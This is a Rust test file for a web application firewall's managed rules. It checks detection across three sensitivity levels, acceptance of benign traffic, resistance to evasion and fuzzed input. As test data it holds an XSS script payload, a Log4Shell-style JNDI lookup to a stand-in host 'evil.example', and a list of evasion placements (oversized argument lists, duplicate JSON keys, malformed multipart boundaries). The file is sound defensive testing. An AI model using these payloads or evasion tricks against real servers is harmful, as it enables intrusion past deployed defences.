//! The managed ruleset against the corpora in tests/managed: attacks that it has to catch, and requests of honest
//! people that it must not. `cargo test --test managed -- --nocapture` prints the report.

#![expect(clippy::unwrap_used, clippy::print_stdout, reason = "a test ends where it cannot go on, and this one reports")]

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use portolan::config::waf::Sensitivity;
use portolan::waf::managed::{Managed, all};
use serde::Deserialize;

const LEVELS: [Sensitivity; 3] = [Sensitivity::Low, Sensitivity::Medium, Sensitivity::High];

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Case {
    /// The rule that has to find it; any will do for the request as a whole.
    rule: Option<String>,
    /// Of an attack: the lowest at which it has to be caught. Of an honest request: the highest at which it has to
    /// pass; without one it is known to be refused.
    level: Option<Sensitivity>,
    request: serde_json::Map<String, serde_json::Value>,
}

fn cases(file: &str) -> Vec<Case> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/managed").join(file);
    serde_json::from_value(common::table(&path)).unwrap()
}

fn find(managed: &Managed, request: &serde_json::Map<String, serde_json::Value>) -> Option<String> {
    view::with_view(request.clone(), "/", |view| managed.find(view, 0).map(|f| f.rule.to_string()))
}

fn at(level: Sensitivity) -> Managed {
    Managed::new(level, &[], false).unwrap()
}

#[test]
fn attacks_are_caught() {
    let cases = cases("attacks.yaml");
    let managed = LEVELS.map(at);
    let mut missed = Vec::new();
    let mut caught = [0; 3];
    for case in &cases {
        for (n, level) in LEVELS.iter().enumerate() {
            let found = managed.get(n).and_then(|m| find(m, &case.request));
            caught[n] += usize::from(found.is_some());
            if found.is_none() && case.level.unwrap() <= *level {
                missed.push(format!("{level:?} {:?} {}", case.rule, serde_json::to_string(&case.request).unwrap()));
            }
        }
    }
    for (n, level) in LEVELS.iter().enumerate() {
        println!("{level:?}: {} of {} attacks caught", caught[n], cases.len());
    }
    assert!(missed.is_empty(), "{} missed:\n{}", missed.len(), missed.join("\n"));
    assert!(cases.len() > 300);
}

#[test]
fn honest_people_pass() {
    let cases = cases("benign.yaml");
    let managed = LEVELS.map(at);
    let mut wrong = Vec::new();
    let mut refused = [0; 3];
    for (i, case) in cases.iter().enumerate() {
        for (n, level) in LEVELS.iter().enumerate() {
            let Some(rule) = managed.get(n).and_then(|m| find(m, &case.request)) else { continue };
            refused[n] += 1;
            if Some(*level) <= case.level {
                wrong.push(format!("#{i} {level:?} {rule} {}", serde_json::to_string(&case.request).unwrap()));
            }
        }
    }
    for (n, level) in LEVELS.iter().enumerate() {
        println!("{level:?}: {} of {} honest requests refused", refused[n], cases.len());
    }
    assert!(wrong.is_empty(), "{} refused:\n{}", wrong.len(), wrong.join("\n"));
    assert!(cases.len() > 350);
}

/// Ways to hide an attack from whoever looks.
#[test]
fn nothing_hides() {
    let managed = at(Sensitivity::Low);
    let (script, jndi) = ("%3Cscript%3Ealert(1)%3C/script%3E", "${jndi:ldap://evil.example/a}");
    let get = |url: String, headers: &[(&str, &str)]| serde_json::json!({ "url": url, "headers": headers });
    let post = |kind: &[&str], body: String| {
        let headers: Vec<_> = kind.iter().map(|k| ("content-type", k)).collect();
        serde_json::json!({ "method": "POST", "url": "/", "headers": headers, "body": body })
    };
    let part = |name: &str, value: &str| format!("--b\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n");
    let form = "application/x-www-form-urlencoded";
    let multipart = "multipart/form-data; boundary=b";
    let cases = [
        ("behind many arguments", get(format!("/?{}q={script}", "a&".repeat(1_500)), &[])),
        ("behind many cookies", get("/".to_owned(), &[("cookie", &format!("{}z={jndi}", "a=b; ".repeat(1_500)))])),
        ("in a cookie's name", get("/".to_owned(), &[("cookie", &format!("{jndi}=a"))])),
        ("in a cookie without a value", get("/".to_owned(), &[("cookie", jndi)])),
        ("in the second user agent", get("/".to_owned(), &[("user-agent", "Mozilla/5.0"), ("user-agent", jndi)])),
        ("in the second referer", get("/".to_owned(), &[("referer", "http://a/"), ("referer", jndi)])),
        ("in an entity tag", get("/".to_owned(), &[("if-none-match", jndi)])),
        ("behind many parts", post(&[multipart], format!("{}{}--b--", part("a", "x").repeat(900), part("z", jndi)))),
        ("behind a decoy of a delimiter", post(&[multipart], format!("--b--junk\r\n{}--b--", part("z", jndi)))),
        ("behind a comma for a semicolon", post(&["multipart/form-data, boundary=b"], format!("{}--b--", part("z", jndi)))),
        ("without a boundary", post(&["multipart/form-data"], format!("{}--b--", part("z", jndi)))),
        ("behind many texts", post(&["application/json"], serde_json::json!([vec!["a"; 1_500], jndi]).to_string())),
        ("under a key that stands twice", post(&["application/json"], format!("{{\"a\": \"{jndi}\", \"a\": \"ok\"}}"))),
        ("in broken JSON", post(&["application/json"], format!("{{\"a\": \"{jndi}\""))),
        (
            "in a form with a comma",
            post(&["application/x-www-form-urlencoded, x"], "q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D".to_owned()),
        ),
        ("in a form of two kinds", post(&["text/plain", form], "q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D".to_owned())),
        ("in a form that is none", post(&["text/plain"], "q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D".to_owned())),
    ];
    for (how, request) in cases {
        assert!(find(&managed, request.as_object().unwrap()).is_some(), "{how}");
    }
}

/// Whatever comes, it is judged and nothing breaks.
#[test]
fn noise() {
    let managed = at(Sensitivity::High);
    let pieces = [
        "'",
        "\"",
        "`",
        "--",
        "/*",
        "*/",
        "#",
        ";",
        " or ",
        " union select ",
        "1",
        "(",
        ")",
        "<",
        ">",
        "<svg ",
        "onload=",
        "javascript:",
        "=",
        "&#",
        "x",
        "&lt;",
        "%",
        "%u00",
        "\\",
        "{{",
        "${",
        "../",
        "é",
        "\u{0}",
        " ",
        "\n",
        "a.php",
        "{\"a\":[",
        "]}",
        "--b\r\n",
        "0x",
        "@@",
        "!",
        ",",
    ];
    let kinds = ["application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=b", "text/xml", ""];
    let mut chance = fastrand::Rng::with_seed(7);
    for _ in 0..3_000 {
        let text: String = (0..chance.usize(0..40)).map(|_| pieces[chance.usize(..pieces.len())]).collect();
        let kind = kinds[chance.usize(..kinds.len())];
        let request = serde_json::json!({
            "method": "POST",
            "url": format!("/?q={}", text.bytes().map(|b| format!("%{b:02X}")).collect::<String>()),
            "headers": [["content-type", kind], ["cookie", text.replace(['\n', '\r', '\0'], "")]],
            "body": text,
        });
        find(&managed, request.as_object().unwrap());
    }
}

/// Every rule is seen to work alone, and says what it is for.
#[test]
fn every_rule_has_its_tests_and_its_reason() {
    let mut tested: BTreeMap<String, usize> = BTreeMap::new();
    let ids: BTreeSet<&str> = all().map(|s| s.id).collect();
    for case in cases("attacks.yaml") {
        let rule = case.rule.unwrap();
        assert!(ids.contains(rule.as_str()), "there is no rule {rule}");
        let others: Vec<&str> = ids.iter().copied().filter(|id| *id != rule).collect();
        let alone = Managed::new(Sensitivity::High, &others, false).unwrap();
        let found = find(&alone, &case.request);
        *tested.entry(rule.clone()).or_default() += usize::from(found.as_deref() == Some(&rule));
    }
    for signature in all() {
        assert!(tested.get(signature.id).is_some_and(|n| *n >= 2), "{} lacks tests that it passes: {tested:?}", signature.id);
        assert!(!signature.reason.is_empty());
        assert!(signature.words.iter().all(|w| w.len() >= 3 && *w == w.to_ascii_lowercase()), "{}", signature.id);
    }
    let mut unique = BTreeSet::new();
    assert!(all().filter(|s| !s.words.is_empty()).all(|s| unique.insert(s.id)), "two rules share a name");
}

mod common;
#[path = "common/view.rs"]
mod view;
